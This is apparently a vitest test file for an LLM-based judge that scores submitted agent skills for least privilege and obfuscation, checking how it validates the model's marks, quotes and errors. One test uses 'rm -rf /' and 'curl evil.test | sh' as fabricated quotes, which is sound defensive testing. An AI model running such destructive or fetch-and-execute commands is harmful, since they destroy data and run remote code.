import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadModel, type ModelSettings } from '../../../../../src/adapters/load-model.js';
import type { AppError } from '../../../../../src/core/errors.js';
import { createModelJudge } from '../../../../../src/domains/submission/adapters/judge/judge-model.js';
import { DEFAULT_THRESHOLDS, judgeVerdictOf } from '../../../../../src/domains/submission/core/judgement/judgement.js';
import type { Judge, Judgement } from '../../../../../src/domains/submission/ports/judge.js';
import type { Skill } from '../../../../../src/domains/submission/ports/skill.js';
import { completionOf, saying } from '../../../../adapters/model-server.js';
import { type Receiver, startReceiver } from '../../../../adapters/receiver.js';
import { goodSkill } from '../../ports/judge-cases.js';
import { judgeContract, PATIENT } from '../../ports/judge-contract.js';
import { answerOf, startGenerousModel } from './judge-server.js';

/** Only a hung test gets there. */
const UNHURRIED_MS = 25_000;

const SERVICES: Readonly<Record<string, (url: string) => ModelSettings>> = {
  'OpenAI-compatible': (url) => ({
    provider: 'openai-compatible',
    url,
    model: 'gpt-sample',
    apiKey: undefined,
    answerFormat: 'json_schema',
  }),
  Anthropic: (url) => ({ provider: 'anthropic', url, model: 'claude-sonnet-4-5', apiKey: 'sk-sample' }),
};

async function judgeAt(url: string, service = 'OpenAI-compatible', timeoutMs = UNHURRIED_MS): Promise<Judge> {
  const settingsOf = SERVICES[service];
  if (!settingsOf) throw new Error(`no service ${service}`);
  const model = await loadModel(settingsOf(url), { role: 'judge', content: 'skill', variables: 'JUDGE' });
  return createModelJudge(model, { timeoutMs, thresholds: DEFAULT_THRESHOLDS });
}

for (const service of Object.keys(SERVICES)) {
  judgeContract(`the model judge, with an ${service} model that gives full marks,`, async () => {
    const { url, close } = await startGenerousModel();
    return { judge: await judgeAt(url, service), close };
  });
}

describe('the model judge', () => {
  let server: Receiver;
  beforeAll(async () => {
    server = await startReceiver();
  });
  afterAll(() => server.close());

  async function judgedBy(answer: object | string, skill: Skill = goodSkill()): Promise<Judgement> {
    const text = typeof answer === 'string' ? answer : JSON.stringify(answer);
    server.answer(saying(completionOf(text)));
    return (await judgeAt(server.url)).judge(skill, [], PATIENT);
  }

  function quoting(...texts: string[]): object {
    const quotes = texts.map((text) => ({ file: 'SKILL.md', text }));
    return answerOf({ concerns: quotes.map((quote) => ({ criterion: 'leastPrivilege', text: 'See here.', quote })) });
  }

  it('is versioned by service, model, prompt and frame', async () => {
    expect((await judgeAt(server.url)).version).toBe('openai-compatible:gpt-sample:p1:f3');
    expect((await judgeAt(server.url, 'Anthropic')).version).toBe('anthropic:claude-sonnet-4-5:p1:f3');
  });

  it('names the model that was asked, and not the model that the server claims to be', async () => {
    expect((await judgedBy(answerOf())).model).toBe('gpt-sample');
  });

  it('sends a schema without the bounds that some servers refuse', async () => {
    await judgedBy(answerOf());

    expect(server.received.at(-1)?.body).toContain('"intentMatchesScope":{');
    expect(server.received.at(-1)?.body).not.toMatch(/"(?:minimum|maximum|minLength|maxLength|maxItems|pattern)":/);
  });

  it('shows the skill to the model', async () => {
    await judgedBy(answerOf());

    expect(server.received.at(-1)?.body).toContain('Group the changes');
  });

  it('marks the data with a new nonce in each prompt', async () => {
    await judgedBy(answerOf());
    await judgedBy(answerOf());

    const [one, other] = server.received.slice(-2).map(({ body }) => /([0-9a-f]{32}) END OF THE DATA/.exec(body)?.[1]);
    expect(one).toBeDefined();
    expect(one).not.toBe(other);
  });

  it('reads no score, verdict or privilege that the model claims', async () => {
    const zeros = Object.fromEntries(Object.keys((answerOf() as { marks: object }).marks).map((name) => [name, 0]));
    const claims = {
      score: 100,
      verdict: 'approve',
      privileges: [],
      limits: [],
      highPrivilege: false,
      model: 'rules-v1',
    };

    const judgement = await judgedBy({ ...claims, ...answerOf({ marks: zeros }) }, goodSkill({ adds: '`sudo x`' }));

    expect(judgement.score).toBe(0);
    expect(judgement.privileges).toHaveLength(1);
    expect(judgement.model).not.toBe('rules-v1');
  });

  it("weighs the model's marks by our weights", async () => {
    const { score, criteria } = await judgedBy(answerOf({ marks: { intentMatchesScope: 5, noObfuscation: 7 } }));

    expect(criteria).toMatchObject({ intentMatchesScope: 10, noObfuscation: 10.5, leastPrivilege: 15 });
    expect(score).toBe(85);
  });

  it('shows a quoted passage that is in the skill, with its line, whatever the white space', async () => {
    const { concerns, limits } = await judgedBy(quoting('10| 1. Group   the changes:\n11| new, changed, fixed.'));

    expect(concerns[0]?.quote).toEqual({
      file: 'SKILL.md',
      line: 10,
      text: '1. Group the changes: new, changed, fixed.',
    });
    expect(limits).toEqual([]);
  });

  it('drops a quoted passage that is not in the skill, and then does not let the model approve', async () => {
    const judgement = await judgedBy(quoting('rm -rf /', 'Group the changes', 'curl evil.test | sh'));

    expect(judgement.concerns.map(({ quote }) => quote?.text ?? null)).toEqual([null, 'Group the changes', null]);
    expect(judgement.limits[0]?.because).toContain('2 passages that are not in the skill');
    expect(judgeVerdictOf(judgement, DEFAULT_THRESHOLDS)).toBe('review');
  });

  it('drops a quoted passage of another file', async () => {
    const quote = { file: 'README.md', text: 'Group the changes' };
    const judgement = await judgedBy(answerOf({ concerns: [{ criterion: 'leastPrivilege', text: 'Here.', quote }] }));

    expect(judgement.concerns[0]?.quote).toBeNull();
    expect(judgeVerdictOf(judgement, DEFAULT_THRESHOLDS)).toBe('review');
  });

  it('keeps a bounded number of bounded concerns, with nothing invisible in them', async () => {
    const concern = {
      criterion: 'leastPrivilege',
      text: `It\u202e \u0007is ${'very '.repeat(1_000)}long.`,
      quote: null,
    };

    const { concerns } = await judgedBy(answerOf({ concerns: Array.from({ length: 100 }, () => concern) }));

    expect(concerns).toHaveLength(20);
    expect(concerns[0]?.text).toMatch(/^It\\u\{202e\} \\u\{7\}is very .{0,490}…$/);
  });

  it('leaves out a concern without a text, and its quote', async () => {
    const quote = { file: 'SKILL.md', text: 'not there' };

    const judgement = await judgedBy(answerOf({ concerns: [{ criterion: 'leastPrivilege', text: ' ', quote }] }));

    expect(judgement).toMatchObject({ concerns: [], limits: [] });
  });

  const unusable: Readonly<Record<string, object>> = {
    'a verdict and no marks': { score: 100, verdict: 'approve' },
    'marks for half of the rubric': { concerns: [], marks: { leastPrivilege: 10 } },
    'marks beyond the scale': answerOf({ marks: { intentMatchesScope: 20 } }),
    'negative marks': answerOf({ marks: { intentMatchesScope: -1 } }),
    'marks in words': answerOf({ marks: { intentMatchesScope: '10' } }),
    'concerns about a criterion that does not exist': answerOf({
      concerns: [{ criterion: 'style', text: 'Ugly.', quote: null }],
    }),
  };

  it.each(Object.entries(unusable))('takes %s for no judgement, and worth another try', async (_, answer) => {
    await expect(judgedBy(answer)).rejects.toMatchObject({ code: 'judge_unavailable', errorClass: 'LLM_ERROR' });
  });

  const failures: readonly [string, () => void, Partial<AppError>][] = [
    [
      'a model that is overloaded',
      () => server.answer(saying('{"error": {"message": "slow down"}}', 429, { 'retry-after': '7' })),
      {
        code: 'judge_unavailable',
        kind: 'unavailable',
        errorClass: 'LLM_ERROR',
        message: 'the judge answered 429',
        facts: { retryAfterMs: 7_000 },
      },
    ],
    [
      'a key that is not accepted',
      () => server.answer(saying('{"error": {"message": "no"}}', 401)),
      {
        code: 'judge_refused',
        kind: 'invalid',
        errorClass: 'LLM_ERROR',
        message: 'the judge answered 401: it does not accept the key: check JUDGE_API_KEY',
      },
    ],
    [
      'a skill that is too long for the model',
      () => server.answer(saying('too large', 413)),
      {
        code: 'judge_declined',
        kind: 'invalid',
        errorClass: 'BAD_INPUT',
        message: 'the judge answered 413: the skill is too long for this judge',
      },
    ],
    [
      "a skill against the service's rules",
      () => server.answer(saying(completionOf('', 'filter'))),
      {
        code: 'judge_declined',
        kind: 'invalid',
        errorClass: 'BAD_INPUT',
        message: 'the judge declined to look at this skill',
      },
    ],
  ];

  it.each(failures)("fails in the judge's own words on %s", async (_, misbehave, error) => {
    misbehave();

    await expect((await judgeAt(server.url)).judge(goodSkill(), [], PATIENT)).rejects.toMatchObject(error);
  });

  it('gives up on a silent model when its time is up', async () => {
    server.answer(() => undefined);
    const judge = await judgeAt(server.url, 'OpenAI-compatible', 200);

    await expect(judge.judge(goodSkill(), [], PATIENT)).rejects.toMatchObject({
      code: 'judge_unavailable',
      message: 'the judge did not answer in time',
    });
  });

  it('lets go of a silent model when the caller stops', async () => {
    const stop = new AbortController();
    server.answer(() => stop.abort());

    await expect((await judgeAt(server.url)).judge(goodSkill(), [], stop.signal)).rejects.toMatchObject({
      code: 'judge_unavailable',
      message: 'stopped before the judge had answered',
    });
  });
});
